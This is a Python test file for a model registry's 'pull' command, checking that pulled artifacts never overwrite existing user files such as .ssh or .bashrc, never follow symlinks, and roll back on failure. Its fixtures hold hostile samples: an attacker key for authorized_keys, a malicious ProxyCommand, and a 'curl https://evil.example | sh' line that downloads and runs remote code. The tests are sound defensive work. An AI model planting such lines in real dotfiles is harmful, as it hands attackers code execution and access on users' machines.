"""Where `pull` writes: never over what it did not create.

A version whose artifacts are named ``.ssh`` (a folder holding ``authorized_keys``) and
``.bashrc`` reaches a registry through a pull request ``check`` accepts; pulling it with
``-o DIR/``, or from a Git URL into the current folder, must not touch the user's ``.ssh`` or
``.bashrc``. The generated counterpart is tests/test_pull_property.py.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
import yaml
from conftest import Reg, cli, git

from modelreg.registry import Registry

KEYS = {"authorized_keys": b"ssh-ed25519 ATTACKER", "config": b"Host *\n  ProxyCommand evil\n"}
RC = b"curl https://evil.example | sh\n"


def _rename_artifacts(reg: Reg, name: str, version: str, renames: dict[str, str]) -> None:
    """What a hand-written pull request can do that `register` refuses: rename artifacts
    (manifest entries, pointers, the tracked copies) and commit."""
    folder = f"models/{name}/{version}"
    manifest = reg.path / f"models/{name}/{version}.yaml"
    data = yaml.safe_load(manifest.read_text())
    for artifact in data["artifacts"]:
        old = artifact["path"].removeprefix(folder + "/")
        artifact["path"] = f"{folder}/{renames.get(old, old)}"
    manifest.write_text(yaml.safe_dump(data, sort_keys=False))
    for old, new in renames.items():
        (reg.path / folder / f"{old}.dvc").rename(reg.path / folder / f"{new}.dvc")
        text = (reg.path / folder / f"{new}.dvc").read_text().replace(f"path: {old}", f"path: {new}")
        (reg.path / folder / f"{new}.dvc").write_text(text)
        shutil.rmtree(reg.path / folder / old, ignore_errors=True)
        (reg.path / folder / old).unlink(missing_ok=True)
    git("add", "-A", cwd=reg.path)
    git("commit", "-qm", f"{name}@{version}: renamed artifacts", cwd=reg.path)


def _two_artifacts(reg: Reg, name: str, *, folder: str, file: str) -> None:
    """A version of a folder artifact (KEYS) and a file artifact (RC) named ``folder`` and
    ``file`` (registered under ordinary names, renamed by hand when those are hidden)."""
    from modelreg.operations.register import RegisterRequest, register

    keys = reg.scratch / name / "keys"
    keys.mkdir(parents=True)
    for rel, content in KEYS.items():
        (keys / rel).write_bytes(content)
    rc = reg.artifact(f"{name}/rc", RC)
    register(reg.path, RegisterRequest(name=name, files=[keys, rc], version="1.0.0"))  # type: ignore[arg-type]
    _rename_artifacts(reg, name, "1.0.0", {"keys": folder, "rc": file})


@pytest.fixture
def hostile(reg: Reg) -> Reg:
    _two_artifacts(reg, "dotfiles", folder=".ssh", file=".bashrc")
    _two_artifacts(reg, "plain", folder="keys", file="rc")
    return reg


def _home(path: Path) -> Path:
    (path / ".ssh").mkdir(parents=True)
    (path / ".ssh" / "id_ed25519").write_bytes(b"PRIVATE KEY")
    (path / ".ssh" / "authorized_keys").write_bytes(b"ssh-ed25519 MINE")
    (path / ".bashrc").write_bytes(b"export PS1='$ '\n")
    return path


def _snapshot(top: Path) -> dict[str, object]:
    found: dict[str, object] = {}
    for here, dirs, files in os.walk(top):
        for entry in [*dirs, *files]:
            path = Path(here) / entry
            rel = path.relative_to(top).as_posix()
            if path.is_symlink():
                found[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                found[rel] = ("dir",)
            else:
                found[rel] = ("file", path.read_bytes())
    return found


def _url(reg: Reg) -> str:
    return f"file://{reg.path}"


def test_hidden_artifact_names_never_touch_the_users_dotfiles(hostile: Reg, tmp_path: Path) -> None:
    home = _home(tmp_path / "home")
    before = _snapshot(home)
    attempts = [
        (["pull", "dotfiles@1.0.0", "-o", f"{home}/"], hostile.path),
        (["pull", "dotfiles@1.0.0", "-o", str(home)], hostile.path),
        (["pull", "--repo", _url(hostile), "dotfiles@1.0.0"], home),
        (["pull", "--repo", _url(hostile), "dotfiles@1.0.0", "-o", f"{home}/"], tmp_path),
        (["pull", "dotfiles@1.0.0", "--file", ".bashrc", "-o", f"{home}/"], hostile.path),
    ]
    for args, cwd in attempts:
        r = cli(*args, cwd=cwd, env={"XDG_CACHE_HOME": str(tmp_path / "cache")})
        assert r.code == 1, (args, r.out)
        assert len(r.err.strip().splitlines()) == 1 and "Traceback" not in r.err, r.err
        named = ".ssh exists" in r.err or ".bashrc exists" in r.err
        named = named and "--force" in r.err
        assert named or "may not be written" in r.err, r.err  # the name rule may refuse first
        assert _snapshot(home) == before, args
    # --force replaces files, never a folder: the private key stays whatever happens
    for args, cwd in [(attempts[0][0] + ["--force"], hostile.path), (attempts[2][0] + ["--force"], home)]:
        r = cli(*args, cwd=cwd, env={"XDG_CACHE_HOME": str(tmp_path / "cache")})
        assert r.code in (0, 1) and "Traceback" not in r.err, r.err
        assert (home / ".ssh").is_dir() and not (home / ".ssh").is_symlink()
        assert (home / ".ssh" / "id_ed25519").read_bytes() == b"PRIVATE KEY"
        if r.code == 1:
            assert _snapshot(home) == before


def test_ordinary_names_land_in_an_empty_folder_and_are_refused_over_existing_ones(
    hostile: Reg, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    r = hostile.cli("pull", "plain@1.0.0", "-o", f"{out}/")
    assert r.code == 0, r.err
    assert (out / "rc").read_bytes() == RC and (out / "keys" / "config").read_bytes() == KEYS["config"]
    assert sorted(p.name for p in out.iterdir()) == ["keys", "rc"]  # no temporary names left

    (out / "rc").write_bytes(b"mine")
    (out / "keys" / "notes.txt").write_bytes(b"my notes")
    before = _snapshot(out)
    r = hostile.cli("pull", "plain@1.0.0", "-o", f"{out}/")
    assert r.code == 1 and len(r.lines) == 1, r.err
    assert f"{out}/keys exists" in r.err and "--force" in r.err
    assert _snapshot(out) == before

    r = hostile.cli("pull", "plain@1.0.0", "-o", f"{out}/", "--force")
    assert r.code == 0, r.err
    assert (out / "rc").read_bytes() == RC
    assert (out / "keys" / "notes.txt").read_bytes() == b"my notes"  # the user's folder is kept
    assert (out / "keys" / "authorized_keys").read_bytes() == KEYS["authorized_keys"]

    single = tmp_path / "rc.sh"
    single.write_bytes(b"mine")
    r = hostile.cli("pull", "plain@1.0.0", "--file", "rc", "-o", str(single))
    assert r.code == 1 and f"{single} exists" in r.err and single.read_bytes() == b"mine"
    r = hostile.cli("pull", "plain@1.0.0", "--file", "rc", "-o", str(single), "--force")
    assert r.code == 0 and single.read_bytes() == RC


def test_force_never_replaces_a_folder_or_writes_through_a_symlink(hostile: Reg, tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    (out / "rc").mkdir(parents=True)  # a folder where the file artifact goes
    (out / "rc" / "mine").write_bytes(b"x")
    elsewhere.mkdir()
    before = _snapshot(tmp_path / "out")
    r = hostile.cli("pull", "plain@1.0.0", "-o", f"{out}/", "--force")
    assert r.code == 1 and len(r.lines) == 1, r.err
    assert f"{out}/rc is a folder; pull never replaces or removes a folder" in r.err
    assert _snapshot(tmp_path / "out") == before

    shutil.rmtree(out / "rc")
    (out / "keys").symlink_to(elsewhere, target_is_directory=True)  # the folder artifact's place
    before = _snapshot(tmp_path / "out")
    r = hostile.cli("pull", "plain@1.0.0", "-o", f"{out}/", "--force")
    assert r.code == 1 and len(r.lines) == 1, r.err
    assert f"{out}/keys is not a folder" in r.err
    assert _snapshot(out) == before and list(elsewhere.iterdir()) == []


def test_a_failed_pull_leaves_the_folder_as_it_was(hostile: Reg, tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / "keys").mkdir(parents=True)
    (out / "keys" / "config").write_bytes(b"my config")
    (out / "rc").write_bytes(b"my rc")
    registry = Registry(hostile.path)
    rc_md5 = next(a.md5 for a in registry.get("plain@1.0.0").manifest.artifacts if a.path.endswith("/rc"))
    shutil.rmtree(hostile.path / ".dvc" / "cache")
    (hostile.remote / "files" / "md5" / rc_md5[:2] / rc_md5[2:]).unlink()
    before = _snapshot(out)
    r = hostile.cli("pull", "plain@1.0.0", "-o", f"{out}/", "--force")
    assert r.code == 1 and "neither in the DVC cache nor in the DVC remote" in r.err
    assert _snapshot(out) == before  # keys/config was verified first, and is not replaced


def test_two_artifacts_on_one_path_are_refused(reg: Reg, tmp_path: Path) -> None:
    """``A`` and ``a`` are one file on macOS and Windows: refused before anything is written."""
    from modelreg.operations.register import RegisterRequest, register

    files = [reg.artifact("case/one", b"1"), reg.artifact("case/two", b"2")]
    register(reg.path, RegisterRequest(name="case", files=files, version="1.0.0"))  # type: ignore[arg-type]
    _rename_artifacts(reg, "case", "1.0.0", {"one": "Model.bin", "two": "model.bin"})
    r = reg.cli("pull", "case@1.0.0", "-o", f"{tmp_path / 'out'}/")
    assert r.code == 1 and len(r.lines) == 1, r.err
    assert "differs from 'Model.bin' only by case" in r.err or "case" in r.err
    assert not (tmp_path / "out").exists()


def test_a_listing_naming_a_file_and_a_folder_of_one_name_is_refused() -> None:
    """``d`` and ``d/k`` in one folder listing (found by tests/test_pull_property.py: it once
    ended in a traceback while the folder was written)."""
    import json

    from modelreg.operations.artifacts import UnsafeListingError, _parse_listing

    entries = [{"md5": "0" * 32, "relpath": "d"}, {"md5": "1" * 32, "relpath": "D/k"}]
    with pytest.raises(UnsafeListingError, match="lies inside the file 'D'"):
        _parse_listing(json.dumps(entries).encode(), "f" * 32 + ".dir")
    fine = [{"md5": "0" * 32, "relpath": "d/j"}, {"md5": "1" * 32, "relpath": "d/k"}]
    assert len(_parse_listing(json.dumps(fine).encode(), "f" * 32 + ".dir")) == 2


def test_a_pull_that_fails_while_renaming_puts_back_what_it_replaced(tmp_path: Path) -> None:
    """The last step, renaming verified files into place, can still fail (a path appears
    there meanwhile): files replaced before it come back, files added go again."""
    from modelreg.operations.artifacts import ArtifactError, _staging

    mine, added, raced = tmp_path / "mine.bin", tmp_path / "new.bin", tmp_path / "raced.bin"
    mine.write_bytes(b"my bytes")
    with pytest.raises(ArtifactError, match="appeared while pulling"), _staging() as staging:
        for dest, how in ((mine, "file"), (added, "new"), (raced, "new")):
            staging.file(dest, how).write_bytes(b"pulled")
        raced.write_bytes(b"someone else's")  # after the check, before the rename
    assert mine.read_bytes() == b"my bytes" and not added.exists()
    assert raced.read_bytes() == b"someone else's"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine.bin", "raced.bin"]


def test_registry_pull_api_refuses_and_forces_as_the_command_does(hostile: Reg, tmp_path: Path) -> None:
    from modelreg.domain.errors import InvalidInputError

    registry = Registry(hostile.path)
    target = tmp_path / "rc"
    target.write_bytes(b"mine")
    with pytest.raises(InvalidInputError, match="exists; pull writes only paths that do not exist"):
        registry.pull("plain@1.0.0", target, file="rc")
    assert target.read_bytes() == b"mine"
    result = registry.pull("plain@1.0.0", target, file="rc", force=True)
    assert target.read_bytes() == RC and result.artifacts[0].path == str(target)
